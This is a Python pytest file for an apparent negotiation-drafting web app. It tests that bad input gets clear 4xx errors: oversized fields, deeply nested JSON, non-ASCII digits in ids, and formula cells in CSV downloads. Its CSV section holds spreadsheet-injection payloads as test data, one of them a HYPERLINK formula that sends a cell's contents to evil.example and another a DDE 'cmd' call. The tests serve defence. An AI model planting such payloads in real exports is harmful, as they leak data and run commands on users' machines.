"""Bad input through HTTP: previews checked like saving, deeply nested JSON, non-ASCII digits in
ids, formula cells in CSV downloads. Each gets a clear 4xx naming what is wrong, never a 500."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import func, select, update
from sqlmodel import Session

from consensus.models import Amendment, Clause, Delegation
from tests.conftest import D, clause_url, csrf_token, post_form, q

NEW_TEXT = "States should cooperate, in a manner consistent with national law, to share threat information."


# --- the amendment preview applies the limits of saving ---------------------------------------------


@pytest.mark.parametrize(
    ("fields", "says"),
    [
        ({"text": "x" * 20_001}, "The amended text is too long"),
        ({"text": "States\x00 should"}, "control characters"),
        ({"kind": "insert", "text": ""}, "The amended text is empty"),
        ({"kind": "delete", "text": "Some text"}, "A deletion takes no text"),
        ({"rationale": "y" * 10_001}, "The rationale is too long"),
        ({"heading": "h" * 301}, "The heading is too long"),
        ({"kind": "rewrite"}, "The kind of amendment must be one of"),
    ],
)
def test_the_preview_refuses_exactly_what_proposing_refuses(browsers, db: Session, fields, says) -> None:  # type: ignore[no-untyped-def]
    ken = browsers("ken.head")
    data = {"kind": "replace", "text": NEW_TEXT, "rationale": "", **fields, "_csrf_token": csrf_token(ken, D)}
    preview_url = f"{clause_url('3.2')}/amendments/preview"
    proposed = ken.post(f"{clause_url('3.2')}/amendments", data=data, follow_redirects=False)
    fragment = ken.post(preview_url, data=data, headers={"HX-Request": "true"})
    page = ken.post(preview_url, data=data)
    for response in (proposed, fragment, page):
        assert response.status_code == 422, response.text[:300]
        assert says in response.text
    assert fragment.text.lstrip().startswith('<div id="diff-preview"')
    assert "<ins>" not in fragment.text and "<del>" not in fragment.text
    assert "<html" in page.text and "Please correct the following" in page.text
    assert q(db).execute(select(func.count()).select_from(Amendment)).scalar_one() == 0


def test_a_valid_preview_still_shows_the_difference(browsers) -> None:  # type: ignore[no-untyped-def]
    ken = browsers("ken.head")
    data = {"kind": "replace", "text": NEW_TEXT, "_csrf_token": csrf_token(ken, D)}
    fragment = ken.post(f"{clause_url('3.2')}/amendments/preview", data=data, headers={"HX-Request": "true"})
    assert fragment.status_code == 200 and "<ins>" in fragment.text
    blank = ken.get(f"{clause_url('3.2')}/amendments/new")
    assert blank.status_code == 200 and "No change yet" in blank.text and "Please correct" not in blank.text
    deletion = ken.get(f"{clause_url('3.2')}/amendments/new?kind=delete")
    assert "<del>" in deletion.text


# --- deeply nested JSON --------------------------------------------------------------------------------

FILLED = {"group": "oewg-ict", "document": "declaration", "number": "3.2", "file": "v1"}


def routes_of(app, methods: set[str]) -> list[tuple[str, str, str]]:  # type: ignore[no-untyped-def]
    """(method, path template, handler name) of every named route of the app taking these methods."""
    found = []
    for route in app.routes:
        for handler in getattr(route, "route_handlers", []):
            for method in sorted(set(getattr(handler, "http_methods", set())) & methods):
                if handler.name and not handler.name.startswith(("static", "vendor")):
                    found.append((method, route.path, handler.name))
    return found


def fill(template: str, **values: str) -> str:
    """A route's path with its parameters filled in (ids as 1 unless given)."""
    return re.sub(r"\{(\w+):(\w+)\}", lambda m: values.get(m[1], FILLED.get(m[1], "1")), template)


DEEP_BODIES = {
    "arrays": b"[" * 100_000 + b"]" * 100_000,
    "objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "never closed": b"[" * 100_000,
}


PEOPLE = ["chair", "secretariat", "ken.head"]
"""Each route is tried as the first of these its access rule lets through."""


def test_deeply_nested_json_gets_a_400_on_every_api_route(client, api) -> None:  # type: ignore[no-untyped-def]
    writes = [r for r in routes_of(client.app, {"POST", "PUT", "PATCH"}) if r[1].startswith("/api/")]
    assert len(writes) >= 12
    for method, template, name in writes:
        for shape, body in DEEP_BODIES.items():
            for person in PEOPLE:
                headers = {**api(person).headers, "Content-Type": "application/json"}
                response = client.request(method, fill(template), content=body, headers=headers)
                if response.status_code != 403:
                    break
            assert response.status_code == 400, (name, shape, response.text[:200])
            assert "more than 32 levels deep" in response.json()["detail"], (name, shape)


def test_json_nested_within_the_limit_reaches_the_usual_checks(client, api) -> None:  # type: ignore[no-untyped-def]
    body = '{"decision": ' + "[" * 31 + "]" * 31 + ', "reason": "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["}'
    response = client.post(
        "/api/v1/amendments/1/decision",
        content=body.encode(),
        headers={**api("chair").headers, "Content-Type": "application/json"},
    )
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "decision"


# --- digits other than 0-9 in ids ----------------------------------------------------------------------

STRANGE_DIGITS = ["²", "٣", "５"]  # superscript two, Arabic-Indic three, fullwidth five


def test_strange_digits_in_a_path_id_get_a_422_naming_it_on_every_route(browsers, api, client) -> None:  # type: ignore[no-untyped-def]
    """Every route with an id in its path, for each strange digit: 422 naming the parameter (the
    fullwidth "５" used to be read as 5, "²" answered 404)."""
    tokens = {name: csrf_token(browsers(name), D) for name in PEOPLE}
    with_ids = [
        (method, template, name, param)
        for method, template, name in routes_of(client.app, {"GET", "POST", "PUT"})
        for param in re.findall(r"\{(\w+):int\}", template)
    ]
    assert {"version_adopt", "amendment", "api_amendment", "api_ballot", "comment", "round"} <= {r[2] for r in with_ids}
    for method, template, name, param in with_ids:
        for digit in STRANGE_DIGITS:
            path = fill(template, **{param: f"1{digit}"})
            for person in PEOPLE:
                if template.startswith("/api/"):
                    response = client.request(method, path, json={}, headers=api(person).headers)
                elif method == "GET":
                    response = browsers(person).get(path, headers={"Accept": "text/html"})
                else:
                    response = browsers(person).post(path, data={"_csrf_token": tokens[person]})
                if response.status_code != 403:
                    break
            assert response.status_code == 422, (name, path, response.status_code, response.text[:300])
            assert param in response.text and "Give a number such as 12." in response.text, (name, path)


def test_strange_digits_in_query_and_form_fields_get_a_422_naming_them(browsers) -> None:  # type: ignore[no-untyped-def]
    chair = browsers("chair")
    for digit in STRANGE_DIGITS:
        page = chair.get(f"{D}?version={digit}")
        assert page.status_code == 422 and "version" in page.text
        adopt = chair.post(
            f"{D}/versions/1/adopt", data={"round": digit, "_csrf_token": csrf_token(chair, f"{D}/versions")}
        )
        assert adopt.status_code == 422, adopt.text[:300]
        assert 'href="#round"' in adopt.text or "round" in adopt.text


def test_strange_digits_in_json_id_fields_get_a_422_naming_them(api) -> None:  # type: ignore[no-untyped-def]
    chair = api("chair")
    for digit in STRANGE_DIGITS:
        response = chair.post(f"/api/v1{D}/versions/1/adopt", {"round": digit})
        assert response.status_code == 422 and response.json()["errors"][0]["field"] == "round"
        response = chair.post(
            "/api/v1/groups/oewg-ict/rounds", {"document": "declaration", "title": "Round", "amendment": digit}
        )
        assert response.status_code == 422 and response.json()["errors"][0]["field"] == "amendment"


# --- formula cells in CSV downloads ----------------------------------------------------------------------

HOSTILE_CELLS = {
    "KEN": '=HYPERLINK("http://evil.example/?leak="&A1,"Kenya")',
    "IND": "+1+cmd|' /C calc'!A0",
    "NGA": "@SUM(1+1)*cmd",
}


def test_the_agreement_matrix_csv_neutralises_formula_cells_like_the_comment_csv(browsers, db: Session) -> None:  # type: ignore[no-untyped-def]
    ken = browsers("ken.head")
    commented = post_form(ken, f"{clause_url('3.2')}/comments", {"kind": "general", "body": "=1+1"}, page=D)
    assert commented.status_code == 303
    for code, name in HOSTILE_CELLS.items():
        db.execute(update(Delegation).where(Delegation.code == code).values(name=name))
    db.execute(update(Clause).where(Clause.number == "3.2").values(number="-3.2"))
    db.commit()
    matrix = list(csv.reader(io.StringIO(ken.get(f"{D}/agreement.csv").text.lstrip("\ufeff"))))
    comments = list(csv.reader(io.StringIO(ken.get(f"{D}/comments.csv").text.lstrip("\ufeff"))))
    names = {row[1]: row[0] for row in matrix[1:]}
    for code, name in HOSTILE_CELLS.items():
        assert names[code] == "'" + name
    assert "'-3.2" in matrix[0] and "-3.2" not in matrix[0]
    assert ["'-3.2", "'=1+1"] in [[row[2], row[5]] for row in comments[1:]]
